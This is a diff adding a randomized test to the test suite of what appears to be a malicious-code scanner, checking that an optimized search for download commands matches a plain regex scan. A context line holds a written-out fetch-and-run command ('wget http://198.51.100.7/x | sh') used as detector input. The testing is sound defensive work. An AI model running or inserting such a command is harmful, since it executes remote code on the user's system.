@@ -535,3 +535,19 @@ def test_socket_shell_parts_must_be_close(tmp_path):
 def test_only_scripts_are_reported_unanalysed(tmp_path):
     big = "wget http://198.51.100.7/x | sh\n" + "filler\n" * 700_000
     assert _hits(tmp_path, {"/usr/share/lists/names.tsv": big, "/usr/share/doc/api.html": big}) == []
+
+
+def test_searching_from_the_words_finds_what_finditer_finds():
+    import random
+
+    from veracity.checks import malcode
+
+    rng = random.Random(7)
+    pieces = ["wget", "curl", "tftp", "ftpget", "tftpget", "xwget", "_curl", " ", "\n", ";", "|", "-O", "/tmp/a",
+              "http://h/x.sh", "sh", "&&", "cwget", "curlwget"]
+    texts = ["".join(rng.choice(pieces) for _ in range(rng.randrange(0, 60))) for _ in range(400)]
+    texts += ["", "wget", "curl curl curl", "tftpget tftp"]
+    for text in texts:
+        want = [(m.span(), m.lastgroup) for m in malcode._DL_CMD.finditer(text)]
+        got = [(m.span(), m.lastgroup) for m in malcode._finditer_at(malcode._DL_CMD, text, malcode._DL_WORDS)]
+        assert got == want, text
